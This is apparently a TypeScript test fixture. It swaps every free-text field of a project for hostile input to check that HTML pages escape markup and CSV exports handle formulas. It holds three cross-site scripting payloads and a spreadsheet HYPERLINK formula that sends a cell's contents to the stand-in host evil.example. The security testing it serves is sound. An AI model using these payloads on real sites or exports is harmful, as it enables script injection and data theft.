// Hostile text for every free-text field of a project: markup for pages, formulas for CSV.
import type { Project } from '../../src/core/model';

export const MARKUP_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "'><svg onload=alert(3)>",
] as const;
export const FORMULA_PAYLOAD = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
/** Substrings that must never appear raw in an HTML response. */
export const RAW_MARKERS = ['<script>alert(1)', '<img src=x onerror', '<svg onload'];
/** The escaped form of the first payload (at least one page must show it, or the test saw nothing). */
export const ESCAPED_SCRIPT = '&lt;script&gt;alert(1)&lt;/script&gt;';

// (chemistry is a choice since the battery discharge curves: a payload there is refused on load, not escaped)
const TEXT_KEYS = new Set([
  'name',
  'notes',
  'description',
  'supplier',
  'sku',
  'stockNote',
  'refs',
  'category',
  'coreName',
]);
/** Fields that also get the spreadsheet-formula payload (they reach the CSV exports). */
const FORMULA_KEYS = new Set(['description', 'supplier', 'sku', 'refs', 'notes']);

/**
 * A copy of `project` with every free-text field replaced by a payload (markup, or a formula for the
 * fields that reach CSV, every third one), keeping ids and numbers. The same original text always maps
 * to the same payload, so supplier names stay consistent between offers and the costing table.
 */
export function withPayloads(project: Project): Project {
  const copy = structuredClone(project);
  const mapped = new Map<string, string>();
  let n = 0;
  const payloadFor = (key: string, original: string): string => {
    const k = original;
    if (!mapped.has(k)) {
      const i = n++;
      const base = FORMULA_KEYS.has(key) && i % 3 === 2 ? FORMULA_PAYLOAD : MARKUP_PAYLOADS[i % MARKUP_PAYLOADS.length];
      mapped.set(k, `${base} #${i}`);
    }
    return mapped.get(k)!;
  };
  const walk = (node: unknown, key = ''): unknown => {
    if (Array.isArray(node)) return node.map((x) => walk(x, key));
    if (node && typeof node === 'object') {
      const o = node as Record<string, unknown>;
      for (const [k, v] of Object.entries(o)) o[k] = walk(v, k);
      return o;
    }
    if (typeof node === 'string' && TEXT_KEYS.has(key)) return payloadFor(key, node);
    return node;
  };
  walk(copy);
  return copy;
}
